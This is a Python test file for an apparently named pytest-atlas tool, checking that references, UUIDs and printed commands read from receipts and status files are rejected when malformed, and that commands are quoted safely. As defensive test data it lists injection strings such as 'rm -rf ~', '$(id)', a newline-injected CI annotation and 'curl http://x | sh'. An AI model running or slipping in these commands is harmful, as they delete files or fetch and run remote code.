"""References of runs and printed commands: texts from receipts, status files and servers are not trusted."""

import json
import shlex
import sys
from dataclasses import asdict
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from pytest_atlas.base.command_line import command_line
from pytest_atlas.base.identifiers import is_reference, is_uuid, reference
from pytest_atlas.journal import decode, status
from pytest_atlas.journal import receipts as rc

UUID = "5b0c0a52-93c8-4d0e-a2c4-0f6f4d6d1c11"
EVIL = ("TR-1; rm -rf ~", "TR-1\n::error::x", "$(id)", "-h", "TR-", "TR-\u0661", f"{UUID} x", "TR-1\n")


@pytest.mark.parametrize("text", EVIL)
def test_other_texts_are_neither_references_nor_uuids(text: str) -> None:
    assert not is_reference(text)
    assert not is_uuid(text)
    assert reference(text) == ""


def test_references_and_uuids_are_accepted() -> None:
    assert reference("TR-0042") == "TR-0042"
    assert is_uuid(UUID)
    assert is_uuid(UUID.replace("-", "").upper())


@pytest.mark.parametrize("text", EVIL)
def test_a_receipt_has_no_other_reference(text: str) -> None:
    receipt = decode.receipt(json.dumps({"r": "made", "key": "run", "id": UUID, "ref": text}).encode())
    assert isinstance(receipt, rc.Created)
    assert (receipt.id, receipt.ref) == (UUID, "")


def read_back(directory: Path, **more: str) -> status.Status:
    written = status.Status(pid=1, state="done", target="t", atlas="a", **more)  # type: ignore[arg-type]  # texts only
    path = directory / "status-t.json"
    path.write_text(json.dumps(asdict(written)))
    found = status.read(path)
    assert found is not None
    return found


@pytest.mark.parametrize("text", EVIL)
def test_a_status_has_no_other_reference(tmp_path: Path, text: str) -> None:
    found = read_back(tmp_path, run_ref=text, run_id=text, look=f"pytest-atlas --atlas-dir x show {text}")
    assert (found.run_ref, found.run_id, found.look) == ("", "", "")


@pytest.mark.parametrize(
    "look",
    [
        "curl http://x | sh",
        "pytest-atlas --atlas-dir $(id) show TR-1",
        "pytest-atlas --atlas-dir x show TR-2",
        "pytest-atlas --atlas-dir x; id show TR-1",
        "pytest-atlas --atlas-dir 'x show TR-1",
    ],
)
def test_a_status_has_no_other_command(tmp_path: Path, look: str) -> None:
    assert read_back(tmp_path, run_ref="TR-1", run_id=UUID, look=look).look == ""


def test_the_command_of_a_publisher_is_kept(tmp_path: Path) -> None:
    look = command_line("pytest-atlas", "--atlas-dir", "/bench 7/it's/.atlas", "show", "TR-1")
    assert read_back(tmp_path, run_ref="TR-1", run_id=UUID, look=look).look == look


@pytest.mark.skipif(sys.platform == "win32", reason="quoted for the shells of POSIX")
@given(st.lists(st.text(st.characters(exclude_characters="\0", exclude_categories=["Cs"])), min_size=1))
def test_a_word_of_a_command_stays_one_argument(words: list[str]) -> None:
    assert shlex.split(command_line(*words)) == words


def test_on_windows_a_command_is_quoted_as_windows_reads_it(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(sys, "platform", "win32")
    assert command_line("pytest-atlas", "push", "C:\\bench 7\\a&b") == 'pytest-atlas push "C:\\bench 7\\a&b"'
